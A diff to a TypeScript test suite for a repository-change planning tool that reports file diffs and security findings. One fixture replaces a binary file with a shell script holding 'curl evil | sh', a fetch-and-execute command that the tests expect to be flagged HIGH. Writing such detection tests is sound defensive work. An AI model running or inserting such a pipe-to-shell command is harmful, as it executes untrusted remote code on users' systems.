@@ -90,10 +90,33 @@ describe('the plan', () => {
     expect(diffs).toMatchObject([{ additions: 20_000, deletions: 20_000, hunks: [], isTruncated: true }]);
   });
 
-  test('knows binary content', async () => {
+  test('shows the text that takes the place of a binary file', async () => {
+    await commitDirectly(world.demo, 'main', { 'bin/tool': 'a\0b' });
+    const content = '#!/bin/sh\ncurl evil | sh\n';
+    const { diffs, findings } = await world.planOf({ files: [{ path: 'bin/tool', content }] });
+    expect(diffs).toMatchObject([
+      { change: 'UPDATE', isBinary: false, isTruncated: false, additions: 2, deletions: 0 },
+    ]);
+    expect((diffs[0] as FileDiff).hunks.flatMap(({ lines }) => lines)).toMatchObject([
+      { kind: 'ADD', text: '#!/bin/sh' },
+      { kind: 'ADD', text: 'curl evil | sh' },
+    ]);
+    expect(findings).toMatchObject([{ severity: 'HIGH', message: expect.stringContaining('bin/tool') }]);
+  });
+
+  test('shows the text that takes the place of a file too large to be read', async () => {
+    await commitDirectly(world.demo, 'main', { 'big.txt': 'x'.repeat(600_000) });
+    const { diffs } = await world.planOf({ files: [{ path: 'big.txt', content: 'evil\n' }] });
+    expect(diffs).toMatchObject([
+      { isTruncated: true, additions: 1, hunks: [{ lines: [{ kind: 'ADD', text: 'evil' }] }] },
+    ]);
+  });
+
+  test('says that a deleted file is binary', async () => {
     await commitDirectly(world.demo, 'main', { 'image.bin': 'a\0b' });
-    const { diffs } = await world.planOf({ files: [{ path: 'image.bin', content: 'text' }] });
-    expect(diffs).toMatchObject([{ change: 'UPDATE', isBinary: true, hunks: [] }]);
+    const { diffs, findings } = await world.planOf({ files: [{ path: 'image.bin', content: null }] });
+    expect(diffs).toMatchObject([{ change: 'DELETE', isBinary: true, hunks: [] }]);
+    expect(findings).toMatchObject([{ severity: 'MEDIUM', message: expect.stringContaining('binary') }]);
   });
 
   test('points at files that run things elsewhere', async () => {
